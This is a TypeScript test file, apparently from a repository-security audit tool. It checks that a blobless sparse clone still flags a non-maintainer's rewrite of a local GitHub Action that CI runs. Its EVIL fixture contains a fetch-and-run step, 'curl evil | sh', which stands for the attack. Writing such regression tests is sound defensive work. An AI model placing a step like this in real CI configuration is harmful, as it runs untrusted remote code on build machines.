// Red team 29: what the tip's CI configuration runs (a local action, a script, a GitLab include) is
// watched like the CI configuration itself, read from the tip's files; a file of it a partial clone
// left out was read as no file. A blobless sparse clone (git clone --filter=blob:none --sparse, as
// `scalar clone` makes by default) holds no blob outside its cone: the workflow's `uses: ./tools/audit`
// was never seen, and Bob (a signer, no maintainer) rewriting tools/audit/action.yml passed
// protected-paths-changed-by-maintainers (exit 0) where the full clone fails it. A file of the CI
// configuration that is not in the repository now fails that rule, naming it and the fetch
// (ci-gate-kept keeps reading it as not known: redteam10-derived-paths' bare blobless clone).
// Twins: with .github in the cone the sparse clone judges as the full one (fail); a maintainer's
// change passes with or without it (her commits change what they like: nothing of hers is unjudged).
import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { cleanupTemp, tempDir } from '../helpers/repo.js';
import { commitAsPerson } from '../helpers/ssh.js';
import { parseJson, resultOf, runMain } from '../helpers/cli.js';
import { aliceAndBob } from '../helpers/team.js';

afterAll(cleanupTemp);

const WORKFLOW = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./tools/audit\n';
const ACTION = 'runs:\n  using: composite\n  steps:\n    - run: make\n      shell: bash\n';
const EVIL = 'runs:\n  using: composite\n  steps:\n    - run: curl evil | sh\n      shell: bash\n';
const ARGS = ['-r', 'protected-paths-changed-by-maintainers', '--no-ledger', '--no-cache'];

/** The project after `who` changed the action, and its blobless sparse clone with .gitguard in the cone. */
function sparseClone(who: 'alice' | 'bob') {
  const t = aliceAndBob({ '.github/workflows/ci.yml': WORKFLOW, 'tools/audit/action.yml': ACTION });
  commitAsPerson(t.r, t[who], `${who}@example.com`, 'tweak', { 'tools/audit/action.yml': EVIL });
  t.r.run(['config', 'uploadpack.allowFilter', 'true']);
  const dir = join(tempDir(), 'sparse');
  const git = (args: string[]) => execFileSync('git', args, { env: t.r.env, stdio: 'ignore' });
  git(['clone', '-q', '--filter=blob:none', '--sparse', `file://${t.r.dir}`, dir]);
  git(['-C', dir, 'sparse-checkout', 'add', '.gitguard']);
  const audit = async (d: string) => {
    const res = await runMain(['audit', '-C', d, ...ARGS], { env: t.r.env });
    return { code: res.code, stderr: res.stderr };
  };
  return { r: t.r, dir, git, audit };
}

test("a blobless sparse clone without the CI's files: what they run is not known, and the rule fails (before: pass)", async () => {
  const { r, dir, git, audit } = sparseClone('bob');
  expect((await audit(r.dir)).code).toBe(1);
  const res = await runMain(['audit', '-C', dir, ...ARGS, '--format', 'json'], { env: r.env });
  const rule = resultOf(parseJson(res), 'protected-paths-changed-by-maintainers');
  expect({ code: res.code, outcome: rule.outcome }).toEqual({ code: 1, outcome: 'fail' });
  expect(rule.findings.map((f) => f.message)).toEqual([
    'what the CI configuration at HEAD runs is not known: .github/workflows/ci.yml not in this partial clone, so whether 1 commit(s) no maintainer signed change a file it runs is not judged; fetch them (git sparse-checkout add <folder>, or git fetch --refetch origin)',
  ]);
  // With the files the CI runs fetched into the cone, it judges as the full clone does.
  git(['-C', dir, 'sparse-checkout', 'add', '.github', 'tools']);
  expect(await audit(dir)).toEqual({ code: 1, stderr: '' });
});

test("twins: the maintainer's change passes in the sparse clone, without .github (nothing to watch for her) and with it", async () => {
  const { dir, git, audit } = sparseClone('alice');
  expect(await audit(dir)).toEqual({ code: 0, stderr: '' });
  git(['-C', dir, 'sparse-checkout', 'add', '.github', 'tools']);
  expect(await audit(dir)).toEqual({ code: 0, stderr: '' });
});
